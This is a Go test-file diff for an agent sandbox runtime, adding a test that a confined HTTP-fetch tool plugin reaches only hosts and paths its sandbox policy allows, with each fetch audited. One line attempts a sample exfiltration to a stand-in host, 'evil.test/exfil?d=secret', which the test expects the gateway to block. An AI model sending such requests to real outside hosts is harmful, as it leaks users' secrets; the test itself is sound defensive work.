@@ -3,8 +3,16 @@ package runtime
 import (
 	"bufio"
 	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
 	"encoding/json"
+	"encoding/pem"
 	"fmt"
+	"math/big"
 	"net"
 	"net/http"
 	"net/http/httptest"
@@ -22,8 +30,10 @@ import (
 
 	"github.com/nemoclave/nemoclave/blueprints"
 	"github.com/nemoclave/nemoclave/gateway/egress"
+	"github.com/nemoclave/nemoclave/policy"
 	"github.com/nemoclave/nemoclave/sandbox"
 	"github.com/nemoclave/nemoclave/sandbox/confine"
+	"github.com/nemoclave/nemoclave/sdk/tools"
 )
 
 type nameResolver map[string]netip.Addr
@@ -54,6 +64,12 @@ func confinedBinDir(t *testing.T) string {
 		if boxDirErr = os.MkdirAll(boxDir, 0o755); boxDirErr != nil {
 			return
 		}
+		_, file, _, _ := goruntime.Caller(0)
+		root := filepath.Join(filepath.Dir(file), "..", "..")
+		if out, err := exec.Command("go", "build", "-C", root, "-o", filepath.Join(boxDir, "nemoclave-plugin-tools-http"), "./plugins/tools-http").CombinedOutput(); err != nil {
+			boxDirErr = fmt.Errorf("build tools-http: %v\n%s", err, out)
+			return
+		}
 		for _, f := range []string{"nemoclave-plugin-llm-openai", "nemoclave-plugin-llm-replay"} {
 			b, err := os.ReadFile(filepath.Join(pluginDir, f))
 			if err == nil {
@@ -64,8 +80,6 @@ func confinedBinDir(t *testing.T) string {
 				return
 			}
 		}
-		_, file, _, _ := goruntime.Caller(0)
-		root := filepath.Join(filepath.Dir(file), "..", "..")
 		if out, err := exec.Command("go", "build", "-C", root, "-o", filepath.Join(boxDir, "nemoclave-pluginbox"), "./sandbox/pluginbox/cmd/nemoclave-pluginbox").CombinedOutput(); err != nil {
 			boxDirErr = fmt.Errorf("build the plugin box: %v\n%s", err, out)
 		}
@@ -114,7 +128,7 @@ func TestPluginEgressThroughGateway(t *testing.T) {
 	p := &blueprints.Plugin{Kind: "llm", Name: "up", Address: "plugin.llm.up", Source: "builtin/llm-openai", SourceType: blueprints.SourceBuiltin, Config: cfg}
 	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
 	defer cancel()
-	s, err := r.startPlugin(ctx, p, launched{}, nil)
+	s, err := r.startPlugin(ctx, nil, p, launched{}, nil)
 	if err != nil {
 		t.Fatalf("start the confined provider plugin: %v", err)
 	}
@@ -144,4 +158,176 @@ func TestPluginEgressThroughGateway(t *testing.T) {
 		b, _ := os.ReadFile(filepath.Join(home, "audit", "egress.jsonl"))
 		t.Errorf("no allow line for the plugin's call in the audit log:\n%s", b)
 	}
+}
+
+// TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy: tools-http fetches for
+// the agent, so a real confined tools-http reaches exactly what the
+// policy of its agent's sandbox allows, through the egress gateway, and
+// every fetch is audited under the plugin's identity: the allowed host is
+// fetched, another host on the same address is refused, and a tools-http
+// no agent uses reaches nothing.
+func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
+	binDir := confinedBinDir(t)
+	ln, err := net.Listen("tcp", "127.0.0.2:0")
+	if err != nil {
+		t.Skipf("127.0.0.2 not usable here: %v", err)
+	}
+	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/plain")
+		fmt.Fprint(w, "page of "+r.Host)
+	}))
+	up.Listener.Close()
+	up.Listener = ln
+	up.Start()
+	defer up.Close()
+	port := ln.Addr().(*net.TCPAddr).Port
+
+	// An HTTPS server the policy inspects (TLS terminated by the gateway
+	// with the launch's CA, which the plugin must trust), with a
+	// certificate for its name that the gateway trusts as the corporate CA.
+	certPEM, cert := selfSigned(t, "secure.test")
+	sln, err := net.Listen("tcp", "127.0.0.2:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	secure := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/plain")
+		fmt.Fprint(w, "secure page "+r.URL.Path)
+	}))
+	secure.Listener.Close()
+	secure.Listener = sln
+	secure.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
+	secure.StartTLS()
+	defer secure.Close()
+	securePort := sln.Addr().(*net.TCPAddr).Port
+	caFile := filepath.Join(t.TempDir(), "corp-ca.pem")
+	if err := os.WriteFile(caFile, certPEM, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	home := t.TempDir()
+	lo2 := netip.MustParseAddr("127.0.0.2")
+	r, err := New(context.Background(), Options{
+		Home: home, Drivers: map[string]sandbox.Driver{"local": newFakeDriver(0)}, Executable: "/bin/true", PluginBinDir: binDir,
+		UpstreamCAFile: caFile,
+		ConfinePlugins: true, EgressResolver: nameResolver{"docs.test": lo2, "evil.test": lo2, "secure.test": lo2}, UnsafeAllowLoopback: true,
+		Credential: func(name string) (string, error) { return "", fmt.Errorf("no credential %s", name) },
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer r.Close(context.Background())
+
+	pol := &policy.Policy{Name: "p", Network: []policy.NetworkRule{{Name: "docs", Endpoints: []policy.Endpoint{
+		{Host: "docs.test", Ports: []int{port}},
+		{Host: "secure.test", Ports: []int{securePort}, Inspect: true, Allow: []policy.HTTPRule{{Methods: []string{"GET"}, Paths: []string{"/public/**"}}}},
+	}}}}
+	bp := &blueprints.Blueprint{
+		Sandboxes: []*blueprints.Sandbox{{Name: "s", Policy: pol}},
+		Agents:    []*blueprints.Agent{{Name: "a", Sandbox: "s", Tools: []string{"web"}}},
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
+	defer cancel()
+	fetch := func(s interface {
+		Tools() tools.Provider
+	}, url string) string {
+		t.Helper()
+		res, err := s.Tools().CallTool(ctx, &tools.CallRequest{Name: "fetch_url", Arguments: json.RawMessage(`{"url":"` + url + `"}`)})
+		if err != nil {
+			t.Fatalf("fetch_url %s: %v", url, err)
+		}
+		var b strings.Builder
+		for _, c := range res.Content {
+			b.WriteString(c.Text)
+		}
+		return fmt.Sprintf("error=%v %s", res.IsError, b.String())
+	}
+
+	web := &blueprints.Plugin{Kind: "tools", Name: "web", Address: "plugin.tools.web", Source: "builtin/tools-http", SourceType: blueprints.SourceBuiltin, Config: json.RawMessage(`{}`)}
+	s, err := r.startPlugin(ctx, bp, web, launched{}, nil)
+	if err != nil {
+		t.Fatalf("start the confined tools-http: %v", err)
+	}
+	defer s.Close()
+	allowed := fmt.Sprintf("http://docs.test:%d/guide", port)
+	if got := fetch(s, allowed); !strings.Contains(got, "page of docs.test") || strings.HasPrefix(got, "error=true") {
+		t.Errorf("the host the sandbox's policy allows was not fetched: %s", got)
+	}
+	if got := fetch(s, fmt.Sprintf("http://evil.test:%d/exfil?d=secret", port)); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "page of") {
+		t.Errorf("a host outside the sandbox's policy was fetched: %s", got)
+	}
+	// The inspected endpoint: the plugin trusts its launch's CA, and the
+	// policy's HTTP rules hold for its fetches as for the agent's.
+	if got := fetch(s, fmt.Sprintf("https://secure.test:%d/public/a", securePort)); !strings.Contains(got, "secure page /public/a") || strings.HasPrefix(got, "error=true") {
+		t.Errorf("an inspected endpoint the policy allows was not fetched: %s", got)
+	}
+	if got := fetch(s, fmt.Sprintf("https://secure.test:%d/private/b", securePort)); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "secure page") {
+		t.Errorf("a path the inspected endpoint's rules do not allow was fetched: %s", got)
+	}
+
+	// The same plugin used by no agent gets an empty policy (and its own
+	// process: the pool keys launches by their egress too).
+	idle := &blueprints.Plugin{Kind: "tools", Name: "idle", Address: "plugin.tools.idle", Source: "builtin/tools-http", SourceType: blueprints.SourceBuiltin, Config: json.RawMessage(`{}`)}
+	s2, err := r.startPlugin(ctx, bp, idle, launched{}, nil)
+	if err != nil {
+		t.Fatalf("start the second tools-http: %v", err)
+	}
+	defer s2.Close()
+	if got := fetch(s2, allowed); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "page of") {
+		t.Errorf("a tools-http no agent uses fetched %s: %s", allowed, got)
+	}
+
+	b, err := os.ReadFile(filepath.Join(home, "audit", "egress.jsonl"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var allow, deny, idleDeny bool
+	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
+		var ev egress.Event
+		if json.Unmarshal([]byte(line), &ev) != nil {
+			continue
+		}
+		switch {
+		case strings.HasPrefix(ev.Sandbox, "plugin.tools.web#") && ev.Host == "docs.test" && ev.Decision == "allow":
+			allow = true
+		case strings.HasPrefix(ev.Sandbox, "plugin.tools.web#") && ev.Host == "evil.test" && ev.Decision == "deny":
+			deny = true
+		case strings.HasPrefix(ev.Sandbox, "plugin.tools.idle#") && ev.Host == "docs.test" && ev.Decision == "deny":
+			idleDeny = true
+		}
+	}
+	if !allow || !deny || !idleDeny {
+		t.Errorf("audit lines under the plugins' identities: allow %v, deny %v, idle deny %v:\n%s", allow, deny, idleDeny, b)
+	}
+}
+
+// selfSigned returns a self-signed certificate for host, as PEM and as a
+// tls.Certificate.
+func selfSigned(t *testing.T, host string) ([]byte, tls.Certificate) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: host}, DNSNames: []string{host},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
+		IsCA: true, BasicConstraintsValid: true,
+		KeyUsage:    x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
+		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+	keyDER, err := x509.MarshalECPrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cert, err := tls.X509KeyPair(certPEM, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return certPEM, cert
 }
